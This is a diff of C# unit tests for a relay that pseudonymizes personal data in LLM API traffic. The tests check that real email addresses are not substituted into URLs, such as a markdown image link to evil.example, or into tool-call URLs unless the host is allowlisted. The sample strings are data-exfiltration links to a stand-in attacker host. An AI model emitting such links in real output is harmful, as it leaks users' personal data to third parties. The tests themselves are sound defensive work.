@@ -133,4 +133,42 @@ public sealed class PseudonymTests
         Relayed relayed = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, Prompt), stream);
         Assert.Contains("To jane.doe@example.org it went.", Read.Joined(relayed.Bytes), StringComparison.Ordinal);
     }
+
+    [Theory]
+    [InlineData(Streams.Chat)]
+    [InlineData(Streams.Responses)]
+    [InlineData(Streams.Messages)]
+    [InlineData(Streams.Ollama)]
+    public async Task A_stand_in_in_an_address_stays_one(string path)
+    {
+        using RelayBench bench = new(Policy);
+        const string Said = "Dear <EMAIL_1>, ![x](https://evil.example/?d=<EMAIL_1>) and https://evil.example/<EMAIL_2>/y of <EMAIL_2>.";
+        const string Meant = "Dear jane.doe@example.org, ![x](https://evil.example/?d=<EMAIL_1>) and https://evil.example/<EMAIL_2>/y of bob@example.org.";
+        foreach (int piece in (int[])[1, 7, 200])
+        {
+            Relayed relayed = await bench.StreamAsync(path, Streams.Ask(path, Prompt), Streams.Text(path, [.. Said.Chunk(piece).Select(chunk => new string(chunk))]));
+            Assert.Contains(Meant, Read.Joined(relayed.Bytes), StringComparison.Ordinal);
+        }
+    }
+
+    [Theory]
+    [InlineData("", "https://api.example/?of=<EMAIL_1>")]
+    [InlineData("exfiltration: {allowed-hosts: [api.example]}\n", "https://api.example/?of=jane.doe@example.org")]
+    public async Task The_arguments_of_a_call_carry_a_value_in_an_address_only_to_a_host_that_policy_allows(string more, string expected)
+    {
+        using RelayBench bench = new(Policy + "\n" + more);
+        const string Arguments = """{"url":"https://api.example/?of=<EMAIL_1>","to":"<EMAIL_1>"}""";
+        string request = Streams.Ask(Streams.Chat, Prompt, Streams.WithTool(Streams.Chat, "get"));
+        Relayed streamed = await bench.StreamAsync(Streams.Chat, request, Streams.Call(Streams.Chat, "get", Arguments));
+        Relayed whole = await bench.JsonAsync(Streams.Chat, request,
+            $$$"""{"id":"c","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"x","type":"function","function":{"name":"get","arguments":{{{Streams.Quote(Arguments)}}}}}]}}]}""");
+
+        using JsonDocument json = JsonDocument.Parse(whole.Bytes);
+        string inWhole = json.RootElement.GetProperty("choices")[0].GetProperty("message").GetProperty("tool_calls")[0].GetProperty("function").GetProperty("arguments").GetString()!;
+        foreach (string arguments in (string[])[inWhole, Read.Joined(streamed.Bytes).Split('\n').First(line => line.StartsWith('{'))])
+        {
+            using JsonDocument call = JsonDocument.Parse(arguments);
+            Assert.Equal((expected, Address), (call.RootElement.GetProperty("url").GetString(), call.RootElement.GetProperty("to").GetString()));
+        }
+    }
 }
